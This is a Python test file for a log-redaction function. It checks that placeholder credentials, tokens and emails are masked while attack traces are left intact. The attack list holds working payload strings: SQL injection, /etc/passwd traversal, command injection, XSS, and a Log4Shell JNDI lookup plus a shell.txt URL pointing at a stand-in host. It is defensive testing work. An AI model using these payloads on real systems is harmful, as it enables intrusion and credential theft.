"""What a visitor or an administrator would call a secret does not leave; an attack does."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tasks.model.redaction import redact

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"

SECRETS = [
    ("GET /login?user=bob&password=hunter22&x=1 HTTP/1.1", "hunter22"),
    ("/?PASSWD=hunter22", "hunter22"),
    ("/?new_password%3Dhunter22", "hunter22"),
    ("/?user[password]=hunter22", "hunter22"),
    ("/?pwd=hunter22&next=/", "hunter22"),
    ("/reset?token=9f86d081884c7d65&u=1", "9f86d081884c7d65"),
    ("/?csrf_token[x]=9f86d081884c", "9f86d081884c"),
    ("/v1?api_key=9f86d081884c7d65", "9f86d081884c7d65"),
    ("/v1?apikey=9f86d081884c7d65", "9f86d081884c7d65"),
    ("/s3?X-Amz-Signature=fe5f80f77d5fa3bec", "fe5f80f77d5fa3bec"),
    ("/?PHPSESSID=r2t5uvjq435r4q7ib3vtdjq120", "r2t5uvjq435r4q7ib3vtdjq120"),
    (f"/cb#id_token={JWT}", JWT),
    (f"/anything/{JWT}/x", JWT),
    ("Authorization: Bearer abcDEF123456", "abcDEF123456"),
    ("Authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
    ('"Cookie: sid=1; theme=dark"', "sid=1"),
    ("https://bob:hunter22@intranet/", "hunter22"),
    ("/?k=AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    ("/?t=ghp_" + "a" * 36, "ghp_"),
    (
        "/bot110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/getMe",
        "AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw",
    ),
    ("/subscribe?mail=jane.doe%40example.com", "jane.doe"),
    ("Failed password for jane.doe@example.com from 192.0.2.1", "jane.doe"),
    ('{"password": "hunter22", "a": 1}', "hunter22"),
    ("user=bob password: hunter22", "hunter22"),
    ("x-api-key: hunter22key", "hunter22key"),
    ("/?key=AbC123xyz99", "AbC123xyz99"),
    ("/oauth?code=4/0AX4XfWh-abc&state=x", "0AX4XfWh"),
    ("/?pwd=hun$t'er\"2(2x", "2x"),
    ("/?password=hun%24ter%2722", "ter"),
    ("/?password=union2024--select", "2024"),
    ("/?%70assword=hunter22", "hunter22"),
    ("/?passwor%64=hunter22", "hunter22"),
    ("/?password%253Dhunter22", "hunter22"),
    ("/?next=%2Flogin%3Fpassword%3Dhunter22%26x%3D1", "hunter22"),
    ("{\\x22password\\x22:\\x22hunter22\\x22}", "hunter22"),
    ('{\\"password\\": \\"hunter22\\"}', "hunter22"),
    ("%7B%22password%22%3A%22hunter22%22%7D", "hunter22"),
    ('{"password":"hun\\"ter22"}', "ter22"),
    ('password="hunter 22"', "22"),
    ("/?passwort=hunter22", "hunter22"),
    ("/?session=r2t5uvjq435r4q7ib3", "r2t5uvjq435r4q7ib3"),
    ("authorization=Basic%20dXNlcjpwYXNz", "dXNlcjpwYXNz"),
    ("rk_live_4eC39HqLyjWDarjtT1zdp7dc", "4eC39HqLyjWDarjtT1zdp7dc"),
    ("/cb?t=xoxb-1234567890-abcdefghij", "abcdefghij"),
    ("/?aws_secret_access_key=wJalrXUtnFEMI/K7MDENG", "wJalrXUtnFEMI"),
    ("https://bob:p@ss:w0rd@host/", "w0rd"),
    ("/?u=https%3A%2F%2Fbob%3Ahunter22%40host%2F", "hunter22"),
    ("/?card=4111111111111111", "4111"),
    ("/?cc=4111-1111-1111-1111&x=1", "4111"),
    ("/?e=jane.doe%2540example.com", "jane.doe"),
    ("/?e=%6aane.doe%40example%2ecom", "doe"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA", "MIIEowIBAAKCAQEA"),
    ('{"Authorization":["Token S3cr3tS3cr3t"],"x":1}', "S3cr3tS3cr3t"),
    ('{"X-Api-Key": [ "S3cr3tS3cr3t" ]}', "S3cr3tS3cr3t"),
    ('{"Cookie":["sess=S3cr3tS3cr3t"]}', "S3cr3tS3cr3t"),
    ("GET /?pwd1=hunter2&pass_word=x", "hunter2"),
    ("GET /?auth_code=hunter2-4711", "hunter2"),
]

EVIDENCE = [
    '192.168.1.105 - - [22/Feb/2026:22:12:45 +0300] "GET /login.php?user=admin\' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- HTTP/1.1" 200 512 "-" "Mozilla/5.0"',
    '45.89.23.12 - - [22/Feb/2026:22:25:40 +0300] "GET /../../../../etc/passwd HTTP/1.1" 403 162 "-" "curl/7.81.0"',
    "Feb 22 22:18:33 my-server sshd[25341]: Failed password for invalid user admin from 103.45.12.8 port 56789 ssh2",
    "/item?id=1+UNION+ALL+SELECT+1,user,password+FROM+users--",
    "/?pass=1%27+OR+1=1--",
    "/?password=x%27%20or%20%271%27=%271",
    "/?file=../../etc/passwd&author=me&compass=3",
    "/.env /.git/config /secrets.yml /token /password.txt",
    "/?q=%24%7bjndi:ldap://198.51.100.7/a%7d",
    "/wp-login.php?action=lostpassword",
    "/?password='+OR+1=1--",
    "/?password=x%2527%2520UNION%2520SELECT%25201,2--",
    "/?user=a&password=%24%28id%29",
    "/?pass=;cat+/etc/passwd",
    "/?token=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?auth=..%2f..%2fetc%2fpasswd",
    "/?password[$ne]=1",
    "/?secret=http://198.51.100.7/shell.txt",
    "/?sort=key&key=name&pin=up",
    "/?id=4111111111111112&t=1612345678901&n=12345678901234567890",
    "/?code=404&session=new",
    '10.0.0.1 - - "GET /a?b=c;d=e HTTP/1.1" 200 5 "https://example.com/?x=1" "Mozilla/5.0"',
]


@pytest.mark.parametrize(("text", "secret"), SECRETS)
def test_secrets_are_blacked_out_and_counted(text, secret):
    """The value is gone, what surrounds it stays, and it was counted."""
    redacted = redact(text)

    assert secret not in redacted.text
    assert "[" in redacted.text
    assert redacted.counts.total() >= 1


@pytest.mark.parametrize("text", EVIDENCE)
def test_evidence_stays(text):
    """An attack is no secret: nothing of these lines is changed."""
    assert redact(text).text == text


@given(
    st.text(max_size=300)
    | st.lists(st.sampled_from([t for t, _ in SECRETS]), max_size=5).map("&".join)
    | st.lists(
        st.sampled_from(
            [
                "password",
                "token",
                "key",
                "=",
                "%3d",
                "&",
                ";",
                '"',
                "\\",
                "'",
                ":",
                " ",
                "[",
                "]",
                "a1b2c3d4",
                "%40",
                "@",
                ".com",
                "example",
                "://",
                "bob",
                ",",
                "%22",
                "\\x22",
                "basic ",
                "cookie:",
                "4111",
                "/",
            ]
        ),
        max_size=12,
    ).map("".join)
)
def test_twice_is_once(text):
    """What is redacted has nothing more to redact."""
    once = redact(text).text

    assert redact(once).text == once


@pytest.mark.parametrize(
    "bait",
    [
        "a",
        "a.",
        "password=",
        "@",
        "eyJ",
        "://a:",
        "token",
        "-----BEGIN ",
        "a@a.",
        "cookie:",
        "%25",
        "%3d",
        "password%3d",
        "password%253d",
        "pass;",
        'pass="',
        "\\x22",
        "a%40",
        "%6a",
        "4111 ",
        "%3a%2f%2fa%3a",
        "password: ",
        "' or ",
        "[",
        '":"',
        "token=a,",
    ],
)
def test_a_megabyte_of_bait_is_done_at_once(bait):
    """Of a long text both ends are looked at, and only they leave."""
    began_at = time.monotonic()

    redacted = redact(bait * (1_000_000 // len(bait)))

    assert time.monotonic() - began_at < 2
    assert len(redacted.text) < 40_000
